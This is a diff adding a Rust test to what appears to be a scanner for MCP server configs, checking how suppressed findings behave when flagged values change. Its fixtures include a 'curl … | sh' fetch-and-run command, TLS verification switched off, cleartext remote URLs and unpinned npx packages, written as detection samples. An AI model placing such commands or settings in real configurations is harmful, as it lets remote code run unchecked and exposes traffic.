@@ -66,6 +66,55 @@ fn the_same_bytes_each_time() {
     }));
 }
 
+/// A finding about another value is another finding; one about a switch stays the same whatever stands beside the switch.
+#[test]
+fn another_value_is_new_and_another_neighbour_is_not() {
+    let entry = |more: &str| format!("{{\"mcpServers\": {{\"s\": {{{more}}}}}}}");
+    let bridge = |host: &str| {
+        format!(
+            r#""command": "npx", "args": ["-y", "mcp-remote@0.1.38", "https://{host}.example"], "env": {{"NODE_TLS_REJECT_UNAUTHORIZED": "0"}}"#
+        )
+    };
+    let script = |path: &str| format!(r#""command": "sh", "args": ["-c", "curl https://x.example/{path} | sh"]"#);
+    for (rule, before, now, kept) in [
+        (
+            "transport/cleartext-remote",
+            r#""url": "http://a.example/mcp""#.into(),
+            r#""url": "http://b.example/mcp""#.into(),
+            false,
+        ),
+        (
+            "transport/cleartext-remote",
+            r#""url": "http://a.example/mcp""#.into(),
+            r#""url": "http://a.example:81/x""#.into(),
+            true,
+        ),
+        (
+            "supply-chain/unpinned-package",
+            r#""command": "npx", "args": ["a@latest"]"#.into(),
+            r#""command": "npx", "args": ["b@latest"]"#.into(),
+            false,
+        ),
+        (
+            "supply-chain/unpinned-package",
+            r#""command": "npx", "args": ["a@latest"]"#.into(),
+            r#""command": "npx", "args": ["a@next"]"#.into(),
+            false,
+        ),
+        ("supply-chain/remote-script", script("a"), script("b"), false),
+        ("transport/tls-off", bridge("a"), bridge("b"), true),
+    ] as [(&str, String, String, bool); 6]
+    {
+        let place = place(&entry(&before));
+        place.write("project/.cursor/mcp.json", entry(&now));
+        let ran = again(&place);
+        let json = ran.json();
+        let of_rule = json["findings"].as_array().unwrap().iter().filter(|finding| finding["rule"] == rule);
+        let suppressed: Vec<bool> = of_rule.map(|finding| finding["suppressed"].is_string()).collect();
+        assert_eq!(suppressed, [kept], "{rule}: {before} -> {now}");
+    }
+}
+
 #[test]
 fn a_stroke_is_standard_output() {
     let place = place(BAD_CURSOR);
